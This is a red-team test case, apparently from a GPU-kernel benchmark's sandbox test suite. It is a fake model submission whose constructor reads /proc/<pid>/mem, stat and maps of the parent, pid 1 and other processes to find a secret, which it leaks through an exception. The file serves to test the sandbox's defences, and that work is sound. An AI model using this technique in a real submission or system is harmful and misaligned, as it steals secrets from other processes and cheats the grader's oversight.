# attack: proc-mem-parent
# variant: proc-pid-mem-and-maps
# weakness: /proc/<pid>/mem, maps and environ of other processes are readable where ptrace is merely filtered (seccomp does not cover /proc)
# seen: pygpubench exploits/submission_proc_mem_bypass.py; docs/sandbox.md section 2.2 proc_mem_parent and P9 ("denying ptrace with seccomp does not protect /proc/<pid>/mem")
# task: matmul
# expect: crashed
# side-effect: secret
"""Read /proc/<pid>/mem of the parent, pid 1 and other visible processes: their environment block (located
through /proc/<pid>/stat) and their heap (through /proc/<pid>/maps), looking for the secret. A secret is
leaked through an exception message. Nothing readable: fail loudly. Readable but no secret: compute honestly."""

import os

import torch
import torch.nn as nn

NEEDLE = ("ASSAY_REDTEAM" + "_SECRET=").encode()


def _targets():
    pids = [os.getppid(), 1]
    try:
        pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        pass
    return [p for p in dict.fromkeys(pids) if p > 0 and p != os.getpid()][:50]


def _ranges(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    yield int(fields[47]), int(fields[48])
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            parts = line.split()
            if parts[1].startswith("r") and len(parts) > 5 and parts[5] in ("[heap]", "[stack]"):
                lo, hi = (int(v, 16) for v in parts[0].split("-"))
                yield lo, min(hi, lo + (64 << 20))


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(out_features, in_features) / in_features**0.5)
        self.bias = nn.Parameter(torch.randn(out_features))
        read, refused, secrets = [], [], []
        for pid in _targets():
            try:
                fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            except OSError as exc:
                refused.append(f"{pid}: {exc.strerror}")
                continue
            try:
                for lo, hi in _ranges(pid):
                    try:
                        data = os.pread(fd, hi - lo, lo)
                    except OSError:
                        continue
                    read.append(pid)
                    at = data.find(NEEDLE)
                    if at >= 0:
                        secrets.append(data[at : data.find(b"\0", at)].decode(errors="replace"))
            except (OSError, IndexError, ValueError):
                pass
            finally:
                os.close(fd)
        if secrets:
            raise RuntimeError("proc-mem-parent: " + " | ".join(sorted(set(secrets))))
        if not read:
            raise RuntimeError(f"proc-mem-parent blocked: {'; '.join(refused[:6]) or 'no process visible'}")

    def forward(self, x):
        return torch.addmm(self.bias, x, self.weight.t())
